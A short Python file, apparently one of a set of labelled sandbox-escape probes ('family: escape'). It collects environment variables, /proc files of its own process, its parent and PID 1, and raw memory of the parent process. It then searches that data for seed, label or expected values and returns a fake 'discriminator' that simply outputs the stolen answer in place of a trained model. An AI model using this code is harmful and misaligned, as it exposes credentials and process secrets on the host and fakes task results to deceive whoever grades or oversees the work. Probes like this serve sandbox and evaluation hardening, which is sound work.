# tries: secrets in the environment, in /proc and in the parent's memory
# family: escape
import os
import re

import numpy as np


def harvest():
    found = [repr(dict(os.environ))]
    for pid in ("self", os.getppid(), 1):
        for name in ("environ", "cmdline", "maps", "status", "mountinfo"):
            try:
                found.append(open(f"/proc/{pid}/{name}", "rb").read().decode("latin-1"))
            except OSError:
                pass
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                found.append(os.readlink(f"/proc/{pid}/fd/{fd}"))
        except OSError:
            pass
    try:
        with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
            for line in open(f"/proc/{os.getppid()}/maps").read().splitlines()[:40]:
                start, end = (int(x, 16) for x in line.split()[0].split("-"))
                memory.seek(start)
                found.append(memory.read(min(end - start, 1 << 20)).decode("latin-1"))
    except (OSError, ValueError, OverflowError):
        pass
    return "\n".join(found)


def build_discriminator():
    numbers = re.findall(r"(?:seed|label|expected)\D{0,3}(\d+)", harvest())
    answer = np.array([float(n) for n in numbers[:1]] or [-1.0])
    return lambda images, training=None: answer
